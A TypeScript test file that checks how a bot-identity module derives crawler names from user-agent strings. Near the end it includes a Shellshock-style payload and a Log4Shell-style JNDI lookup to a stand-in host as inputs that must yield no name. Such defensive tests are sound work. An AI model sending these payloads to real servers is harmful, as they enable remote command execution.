import { describe, expect, it } from 'vitest';
import { maskAddresses } from '../../../../src/bot/identity/address-mask.ts';
import { deriveName, MAX_DERIVED_NAME } from '../../../../src/bot/identity/derive-name.ts';

const derive = (userAgent: string): string | undefined => deriveName(maskAddresses(userAgent));

describe('names are derived from', () => {
  it.each([
    ['the compatible slot', 'Mozilla/5.0 (compatible; ShopLens/2.3; +https://shoplens.test)', 'ShopLens'],
    ['the compatible slot of several words', 'Mozilla/5.0 (compatible; Shop Lens Agent/2.3)', 'Shop Lens Agent'],
    ['a compatible slot without a space', 'Mozilla/5.0 (compatible;ShopLens/2.3;+https://shoplens.test)', 'ShopLens'],
    [
      'what follows an empty compatible slot',
      'Mozilla/5.0 (compatible) ShopLensBot (+https://shoplens.test)',
      'ShopLensBot',
    ],
    ['a leading product', 'ShopLens/1.0 (+https://shoplens.test)', 'ShopLens'],
    ['a bare leading product', 'ShopLens-User', 'ShopLens-User'],
    ['a leading HTTP library', 'python-requests/2.31.0', 'python-requests'],
    [
      'a product in front of a whole browser',
      'shoplens-preview Mozilla/5.0 (X11; Linux x86_64) Chrome/99',
      'shoplens-preview',
    ],
    ['a product behind a bare Mozilla', 'Mozilla/5.0 ShopLens/0.x', 'ShopLens'],
    ['a robot word behind a browser', 'Mozilla/5.0 (Windows NT 6.1) Chrome/21.0 Safari/537.1; 99Spider', '99Spider'],
    ['a robot word in a comment', 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15; ShopBot) Chrome/136.0', 'ShopBot'],
    ['a robot word of its own', 'Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:15.0) Shop Bot', 'Shop Bot'],
    [
      'a robot word behind a phone',
      'Mozilla/5.0 (Linux; Android 9; Pixel 3) Chrome/99 Mobile Safari/537 ShopBot/1',
      'ShopBot',
    ],
    [
      'a product with a contact',
      'Mozilla/5.0 (X11; Linux) Chrome/99 Safari/537.36 ShopLens/1.0 (+https://shoplens.test)',
      'ShopLens',
    ],
  ])('%s', (_rule, userAgent, name) => {
    expect(derive(userAgent)).toBe(name);
  });
});

describe('names leave out', () => {
  it.each([
    ['a version behind a slash', 'ShopBot/v1.2.3', 'ShopBot'],
    ['a version behind a space', 'ShopBot 1.2', 'ShopBot'],
    ['a version behind a hyphen', 'Mozilla/5.0 (compatible; shop-client-1.0.4; hello)', 'shop-client'],
    ['a version behind an underscore', 'shop_2.6.3 shop_2.6.3@crawler.test', 'shop'],
    ['signs that a label cannot have', "Jamie's Shop!Bot", 'Jamies ShopBot'],
  ])('%s', (_what, userAgent, name) => {
    expect(derive(userAgent)).toBe(name);
  });

  it('digits inside a name stay', () => {
    expect(derive('MJ99bot/v1')).toBe('MJ99bot');
  });

  it('words that exceed the bound, while one over-long word names nobody', () => {
    expect(derive(`${'Shop '.repeat(30)}Bot`)).toBe('Shop Shop Shop Shop Shop Shop Shop Shop');
    expect(derive('S'.repeat(MAX_DERIVED_NAME))).toBe('S'.repeat(MAX_DERIVED_NAME));
    expect(derive('S'.repeat(MAX_DERIVED_NAME + 1))).toBeUndefined();
  });
});

describe('nobody is named by', () => {
  it.each([
    ['a URL', 'https://shoplens.test/bot'],
    ['an e-mail address', 'shopbot@crawler.test'],
    ['the address of a browser add-on', 'Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; http://addon.test/bot)'],
    ['Internet Explorer', 'Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; Trident/6.0; Touch)'],
    ['Internet Explorer 11', 'Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0) like Gecko'],
    ['Konqueror', 'Mozilla/5.0 (compatible; Konqueror/3.5; Linux) KHTML/3.5.5 (like Gecko)'],
    ['Opera', 'Opera/9.80 (Windows NT 6.1) Presto/2.12.388 Version/12.18'],
    ['Lynx', 'Lynx/2.8.9rel.1 libwww-FM/2.14'],
    ['a console', 'Mozilla/5.0 (PlayStation; PlayStation 5/2.26) AppleWebKit/605.1.15 Version/13.0 Safari/605.1.15'],
    ['an old phone', 'Nokia6100/1.0 (04.01) Profile/MIDP-1.0 Configuration/CLDC-1.0'],
    [
      'a CUBOT phone',
      'Mozilla/5.0 (Linux; Android 10; CUBOT NOTE 20; wv) AppleWebKit/537.36 Chrome/120 Mobile Safari/537.36',
    ],
    [
      'Instagram on a CUBOT phone',
      'Mozilla/5.0 (Linux; Android 10; NOTE 20; wv) Chrome/120 Mobile Instagram 300.0 Android (29/10; 720x1450; CUBOT; NOTE_20)',
    ],
    [
      'the Facebook app',
      'Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148 [FBAN/FBIOS;FBAV/450.0;FBDV/iPhone12,1]',
    ],
    [
      'the Pinterest app',
      'Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148 [Pinterest/iOS]',
    ],
    ['an Android app', 'Dalvik/2.1.0 (Linux; U; Android 13; Pixel 7)'],
    ['an iOS app', 'ShopApp/3.2 CFNetwork/1490.0.4 Darwin/23.2.0'],
    ['a word that starts like robot', 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/99 Robotics/1.0'],
    ['a placeholder', 'undefined'],
    ['a number', '2.0'],
    ['a shell attack', '() { :; }; /bin/bash -c id'],
    ['a lookup attack', '${jndi:ldap://x.test/a}'],
  ])('%s', (_what, userAgent) => {
    expect(derive(userAgent)).toBeUndefined();
  });
});
